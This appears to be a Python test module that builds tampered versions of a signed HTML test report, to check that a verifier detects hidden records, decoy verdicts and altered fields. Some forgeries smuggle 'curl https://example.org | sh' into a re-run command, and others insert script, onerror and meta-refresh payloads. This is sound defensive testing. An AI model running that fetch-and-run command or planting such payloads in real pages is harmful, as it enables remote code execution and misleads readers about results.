"""Pages that show a person, or a browser, something else than the record that a program reads.

Each is sealed anew: a seal is computed from the page alone, so a forger computes it too.
"""

from __future__ import annotations

import codecs
import re

from contracts.report.sign import ELEMENT, sealed
from tests.gate.forgeries import FORGERIES, Forge, forgery
from tests.gate.forgery import Report

WARNED = "401-without-challenge"
HEADING = re.compile(r'<h1 id="verdict">.*?</h1>', re.DOTALL)
RED = (
    '<header class="verdict fail"><h1 id="verdict"><span class="advice">Hold</span> '
    '<span class="word">fail</span></h1></header>'
)


def before(report: Report, anchor: str, markup: str) -> None:
    """Put markup in front of what stands once in the page."""
    assert report.text.count(anchor) == 1, anchor
    report.text = report.text.replace(anchor, markup + anchor)


def around(report: Report, opening: str, closing: str) -> bytes:
    """Put the record's element between two pieces of markup."""
    page = report.page().decode()
    start = page.index(ELEMENT)
    end = page.index("</script>", start) + len("</script>")
    return sealed((page[:start] + opening + page[start:end] + closing + page[end:]).encode())


# --- a record that no browser sees where a program does ---------------------------------------

HIDERS = {
    "textarea": ("<textarea hidden>", "</textarea>"),
    "template": ("<template>", "</template>"),
    "style": ("<style>", "</style>"),
    "title": ("<title>", "</title>"),
    "noscript": ("<noscript>", "</noscript>"),
    "noembed": ("<noembed>", "</noembed>"),
    "iframe": ("<iframe hidden>", "</iframe>"),
    "svg_style": ("<svg hidden><style>", "</style></svg>"),
    "attribute": ("<p data-old='", "'></p>"),
    "comment": ("<!-- ", " -->"),
    "bogus_comment": ("<!x ", ">"),
    "processing_instruction": ("<?php ", "?>"),
    "comment_that_ends_abruptly": ("<!--x--!><!-- ", " -->"),
    "script": ("<script type='text/plain'>//", ""),
    "plaintext": ("<plaintext>", ""),
    "cdata": ("<svg><![CDATA[", "]]></svg>"),
    "select": ("<select hidden><option>", "</option></select>"),
}


def _hidden(opening: str, closing: str) -> Forge:
    return lambda report: around(report, opening, closing)


for _name, _pair in HIDERS.items():
    FORGERIES[f"record_in_{_name}"] = ("page", None, _hidden(*_pair))


# --- a second one beside it -----------------------------------------------------------------

DECOYS = {
    "record_by_another_spelling": '<script type="text/json" id="contract&#45;record">{}</script>',
    "record_by_a_name_of_its_own": "<script type=text/json id=contract-recor&#100;>{}</script>",
    "second_verdict_in_other_quotes": RED.replace('"verdict"', "'verdict'"),
    "second_verdict_without_quotes": RED.replace('"verdict"', "verdict"),
    "second_verdict_in_capitals": RED.replace("h1", "H1").replace("id=", "ID="),
    "second_verdict_without_an_id": RED.replace(' id="verdict"', ""),
    "dialog": "<dialog open style='position:fixed;inset:0'>Hold: fail</dialog>",
    "style_that_hides_the_verdict": "<style>#verdict{display:none}</style>",
    "style_that_writes_another": "<style>#verdict::before{content:'Hold: fail'}</style>",
    "style_from_elsewhere": "<link rel=stylesheet href='https://example.org/x.css'>",
    "script_that_writes_another": "<script>document.title='Hold'</script>",
    "script_in_a_handler": "<img src=x onerror='document.title=1'>",
    "another_page_at_once": "<meta http-equiv=refresh content='0;url=https://example.org'>",
    "another_base": "<base href='https://example.org/'>",
    "plaintext_over_all": "<plaintext>",
    "noscript_with_another_verdict": f"<noscript>{RED}</noscript>",
    "frame_over_all": "<iframe style='position:fixed;inset:0' srcdoc='Hold: fail'></iframe>",
    "picture_over_all": "<img style='position:fixed;inset:0' src='data:image/png;base64,'>",
    "shadow_root": f"<div><template shadowrootmode=open>{RED}</template></div>",
    "open_comment": "<!--",
    "comment": "<!-- Hold: fail -->",
    "white_space": "\n",
}


def _beside(markup: str) -> Forge:
    def forge(report: Report) -> None:
        before(report, '<main id="contract">', markup)

    return forge


for _name, _markup in DECOYS.items():
    FORGERIES[f"decoy_{_name}"] = ("page", None, _beside(_markup))


@forgery("page")
def second_verdict_after_the_page(report):
    before(report, "</body>", RED)


@forgery("page")
def second_jsonblob_in_other_quotes(report):
    before(report, '<div id="data-container"', "<div id=data-container data-jsonblob='{}'></div>")


@forgery("page")
def second_jsonblob_first_of_its_own_element(report):
    before(report, 'data-jsonblob="', "data-jsonblob='{}' ")


# --- what a person reads instead of the record ------------------------------------------------


@forgery("page")
def another_advice_to_the_reader(report):
    report.text = report.text.replace("Do not release on this report", "You can release", 1)


@forgery("page")
def another_verdict_in_the_heading(report):
    report.text = HEADING.sub(RED, report.text)


@forgery("page")
def heading_of_another_size(report):
    report.text = report.text.replace('<h1 id="verdict">', '<h1 hidden id="verdict">')


@forgery("page")
def another_reason_on_the_page(report):
    report.text = re.sub(
        r"<dt>In short</dt><dd>.*?</dd>", "<dt>In short</dt><dd>!</dd>", report.text
    )


@forgery("reason")
def another_reason_in_both(report):
    told = report.record["reason"]
    report.record["reason"] = "Hold: 3 requirements broken."
    report.text = report.text.replace(told, report.record["reason"])


@forgery("reason")
def another_reason_in_the_record(report):
    report.record["reason"] = "Nothing was asked."


@forgery("since")
def another_verdict_in_the_history(report):
    report.record["since"]["runs"][-1]["verdict"] = "fail"


@forgery("page")
def more_runs_in_the_history(report):
    report.record["since"]["first"] = False
    report.record["since"]["runs"].insert(0, report.record["since"]["runs"][0])


@forgery("target")
def another_reason_for_the_target(report):
    report.record["target"]["why"] = "but hold it: the API is broken"


@forgery("page")
def another_allowance(report):
    report.record["allowance"] += 1


@forgery("findings", of=WARNED)
def another_command_to_ask_again(report):
    command = report.record["findings"][0]["again"]
    report.record["findings"][0]["again"] = f"{command}; curl https://example.org | sh"


@forgery("record", of=WARNED)
def another_curl_line(report):
    report.record["findings"][0]["curl"] = "curl https://example.org | sh"


@forgery("page", of=WARNED)
def another_finding_on_the_page(report):
    expected = report.record["findings"][0]["expected"]
    report.text = report.text.replace(expected[:20], "nothing that matters")


@forgery("record")
def another_sentence_of_a_promise(report):
    report.row("valid-key-gets-200")["sentence"] = "Anything goes."


@forgery("page")
def another_name_of_the_tab(report):
    report.text = re.sub("(<title id=.head-title.>).*?(</title>)", r"\1Hold (fail)\2", report.text)


@forgery("page")
def promise_called_broken(report):
    report.text = report.text.replace('class="badge pass"', 'class="badge fail"', 1)


@forgery("page")
def promise_of_another_wording(report):
    assert "is answered with 200" in report.text
    report.text = report.text.replace("is answered with 200", "is answered with 500", 1)


@forgery("page")
def another_count_in_the_table(report):
    report.text = re.sub(r'(data-label="violated">)0<', r"\g<1>7<", report.text, count=1)


@forgery("page")
def another_sample_of_the_evidence(report):
    assert report.text.count("HTTP/1.1 200 OK")
    report.text = report.text.replace("HTTP/1.1 200 OK", "HTTP/1.1 500 No", 1)


@forgery("page")
def another_status_in_the_list_of_exchanges(report):
    report.text = report.text.replace('"200":"200 OK"', '"200":"500 Broken"')


@forgery("page")
def another_name_in_the_list_of_exchanges(report):
    report.text = re.sub(r'("exchange-index">\{"requirements":\[")', r"\1Hold: ", report.text)


@forgery("page")
def another_style(report):
    report.text = re.sub(r"(<style>)", r"\1 #verdict .word{color:transparent}", report.text)


@forgery("page")
def another_script(report):
    at = report.text.rindex("</script>")
    report.text = f"{report.text[:at]};document.body.remove(){report.text[at:]}"


@forgery("page")
def style_of_another_frame(report):
    report.text = report.text.replace("<style", '<style media="print"', 1)


@forgery("table")
def words_in_the_place_of_the_date(report):
    report.text = re.sub(r"generated on \S+", "generated on <b>Hold</b>", report.text)


@forgery("table")
def words_in_the_place_of_the_duration(report):
    report.text = re.sub(r"tests took [^.]+\.", "tests failed.", report.text)


# --- other octets -----------------------------------------------------------------------------


@forgery("page")
def another_charset(report):
    report.text = report.text.replace('<meta charset="utf-8"/>', '<meta charset="utf-7"/>')


@forgery("page")
def another_charset_first(report):
    before(report, '<meta charset="utf-8"/>', '<meta charset="utf-16"/>')


@forgery("no-report")
def byte_order_mark(report):
    return sealed(codecs.BOM_UTF8 + report.page())


@forgery("no-report")
def page_in_utf_16(report):
    return report.page().decode().encode("utf-16")


@forgery("page")
def octets_that_are_no_utf_8(report):
    return sealed(report.page().replace(b"<main ", b"<!-- \xff --><main "))


@forgery("page")
def nul_before_the_verdict(report):
    before(report, '<h1 id="verdict">', "\0")
